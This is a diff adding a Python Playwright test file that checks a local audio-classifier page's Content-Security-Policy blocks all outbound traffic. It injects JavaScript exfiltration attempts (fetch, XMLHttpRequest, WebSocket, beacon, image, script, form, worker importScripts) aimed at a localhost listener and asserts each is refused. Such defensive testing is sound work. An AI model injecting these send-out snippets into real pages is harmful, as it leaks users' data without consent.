@@ -1,0 +1,205 @@
+"""Nothing leaves the page: not while it works, and not even when it is told to send.
+
+Each attempt aims at a socket of this machine that listens; the page must not reach it.
+"""
+
+from __future__ import annotations
+
+import socket
+import threading
+import time
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+from playwright.sync_api import Browser, Request
+
+from tests.audio_page import INDEX, WEB, AudioPage
+
+CLIP = Path(__file__).parent / "clips" / "real-en.flac"
+
+
+class Listener:
+    """Accepts connections on a free port, and keeps what they say."""
+
+    def __init__(self) -> None:
+        self.socket = socket.create_server(("127.0.0.1", 0))
+        self.address = f"127.0.0.1:{self.socket.getsockname()[1]}"
+        self.received = b""
+        threading.Thread(target=self._accept, daemon=True).start()
+
+    def _accept(self) -> None:
+        while True:
+            try:
+                connection, _ = self.socket.accept()
+            except OSError:
+                return
+            threading.Thread(target=self._listen, args=[connection], daemon=True).start()
+
+    def _listen(self, connection: socket.socket) -> None:
+        with connection:
+            while block := connection.recv(4096):
+                self.received += block
+
+
+@pytest.fixture
+def listener() -> Iterator[Listener]:
+    listener = Listener()
+    yield listener
+    listener.socket.close()
+
+
+def test_the_listener_hears_what_is_said_to_it(listener: Listener) -> None:
+    host, port = listener.address.split(":")
+    with socket.create_connection((host, int(port))) as connection:
+        connection.sendall(b"voice")
+    deadline = time.monotonic() + 5
+    while listener.received != b"voice" and time.monotonic() < deadline:
+        time.sleep(0.01)
+    assert listener.received == b"voice"
+
+
+def test_loading_and_judging_touch_nothing_but_the_files_beside_the_page(
+    browser: Browser,
+) -> None:
+    opened = AudioPage(browser.new_page())
+    requests: list[Request] = []
+    opened.page.on("request", lambda request: requests.append(request))
+    network = opened.page.context.new_cdp_session(opened.page)
+    network.send("Network.enable")
+    sent: list[str] = []
+    network.on("Network.requestWillBeSent", lambda event: sent.append(event["request"]["url"]))
+    network.on("Network.webSocketCreated", lambda event: sent.append(event["url"]))
+
+    opened.open()
+    opened.call("classifyFile", CLIP)
+    opened.page.set_input_files("#file-input", CLIP)
+    opened.page.wait_for_selector("[data-testid=verdict]")
+
+    asked = {request.url for request in requests} | set(sent)
+    files = {url for url in asked if url.startswith("file:")}
+    folder = WEB.as_uri()
+    expected = {f"{folder}/{name}" for name in ("style.css", "app.js", "model/model.js")}
+    assert files == {INDEX} | expected
+    inlined = asked - files
+    assert all(url.startswith(("data:", "blob:")) for url in inlined), inlined
+    opened.close()
+
+
+@pytest.fixture(scope="module")
+def tempted(browser: Browser) -> Iterator[AudioPage]:
+    """A page that is told to send."""
+    page = AudioPage(browser.new_page())
+    page.open()
+    yield page
+    page.close()
+
+
+ADD = "document.body.append(Object.assign(document.createElement"
+ATTEMPTS = {
+    "fetch": ("connect-src", "await fetch(`http://${to}/`)"),
+    "fetch without CORS": ("connect-src", "await fetch(`http://${to}/`, { mode: 'no-cors' })"),
+    "fetch on leaving": ("connect-src", "await fetch(`http://${to}/`, { keepalive: true })"),
+    "XMLHttpRequest": (
+        "connect-src",
+        "const x = new XMLHttpRequest(); x.open('POST', `http://${to}/`); x.send('voice')",
+    ),
+    "WebSocket": ("connect-src", "new WebSocket(`ws://${to}/`)"),
+    "EventSource": ("connect-src", "new EventSource(`http://${to}/`)"),
+    "beacon": ("connect-src", "navigator.sendBeacon(`http://${to}/`, 'voice')"),
+    "image": ("img-src", "new Image().src = `http://${to}/?voice`"),
+    "script": ("script-src-elem", f"{ADD}('script'), {{ src: `http://${{to}}/` }}))"),
+    "style sheet": (
+        "style-src-elem",
+        f"{ADD}('link'), {{ rel: 'stylesheet', href: `http://${{to}}/` }}))",
+    ),
+    "font": ("font-src", "await new FontFace('spy', `url(http://${to}/a.woff)`).load()"),
+    "audio": ("media-src", "new Audio(`http://${to}/a.mp3`).load()"),
+    "frame": ("frame-src", f"{ADD}('iframe'), {{ src: `http://${{to}}/` }}))"),
+    "object": ("object-src", f"{ADD}('object'), {{ data: `http://${{to}}/` }}))"),
+    "form": (
+        "form-action",
+        f"{ADD}('form'), {{ action: `http://${{to}}/`, method: 'post' }})); "
+        "document.forms[0].submit()",
+    ),
+}  # fmt: skip
+
+TRY = """
+async (to) => {
+  const refused = new Promise((resolve) => {
+    document.addEventListener("securitypolicyviolation", (event) => {
+      resolve({ directive: event.effectiveDirective, blocked: event.blockedURI });
+    }, { once: true });
+  });
+  try {
+    await (async () => { CODE })();
+  } catch {}
+  return Promise.race([refused, new Promise((resolve) => setTimeout(resolve, 5000, null))]);
+}
+"""
+
+
+@pytest.mark.parametrize("kind", ATTEMPTS)
+def test_the_browser_refuses_to_send(tempted: AudioPage, listener: Listener, kind: str) -> None:
+    # For a refused frame or form Chromium may open a connection ahead of the check; nothing is
+    # said on it. So it is the bytes that count.
+    directive, code = ATTEMPTS[kind]
+    violation = tempted.page.evaluate(TRY.replace("CODE", code), listener.address)
+    assert violation is not None, f"{kind} was not refused"
+    assert violation["directive"] == directive
+    assert listener.address in violation["blocked"]
+    tempted.page.wait_for_timeout(100)
+    assert listener.received == b""
+
+
+def test_the_browser_refuses_a_worker_from_elsewhere(
+    tempted: AudioPage, listener: Listener
+) -> None:
+    error = tempted.page.evaluate(
+        "(to) => { try { new Worker(`http://${to}/`); } catch (error) { return error.name; } }",
+        listener.address,
+    )
+    assert error == "SecurityError"
+    assert listener.received == b""
+
+
+def test_the_worker_may_not_send_either(tempted: AudioPage, listener: Listener) -> None:
+    refused = tempted.page.evaluate(
+        """(address) => new Promise((resolve) => {
+          const code = `
+            self.onmessage = async ({ data }) => {
+              const outcomes = [];
+              addEventListener("securitypolicyviolation",
+                (event) => outcomes.push(event.effectiveDirective));
+              await fetch("http://" + data + "/").catch(() => outcomes.push("fetch refused"));
+              try { const x = new XMLHttpRequest(); x.open("GET", "http://" + data + "/", false);
+                x.send(); } catch { outcomes.push("XMLHttpRequest refused"); }
+              try { importScripts("http://" + data + "/a.js"); }
+              catch { outcomes.push("importScripts refused"); }
+              try { await new Promise((open, refuse) => Object.assign(
+                new WebSocket("ws://" + data + "/"), { onopen: open, onerror: refuse })); }
+              catch { outcomes.push("WebSocket refused"); }
+              postMessage(outcomes);
+            };`;
+          const worker = new Worker(URL.createObjectURL(new Blob([code])));
+          worker.onmessage = ({ data }) => resolve(data);
+          worker.onerror = (event) => resolve([event.message]);
+          worker.postMessage(address);
+        })""",
+        listener.address,
+    )
+    for way in ("fetch", "XMLHttpRequest", "importScripts", "WebSocket"):
+        assert f"{way} refused" in refused
+    assert "connect-src" in refused
+    assert listener.received == b""
+
+
+def test_the_policy_stands_in_the_page_and_before_every_script() -> None:
+    text = (WEB / "index.html").read_text(encoding="utf-8")
+    policy = text.index('http-equiv="Content-Security-Policy"')
+    assert policy < text.index("<script")
+    assert policy < text.index("<link")
+    for rule in ("default-src 'none'", "connect-src 'none'", "form-action 'none'"):
+        assert rule in text
+    for hole in ("'unsafe-inline'", "'unsafe-eval'", "http:", "https:", " * "):
+        assert hole not in text[policy : text.index(">", policy)]
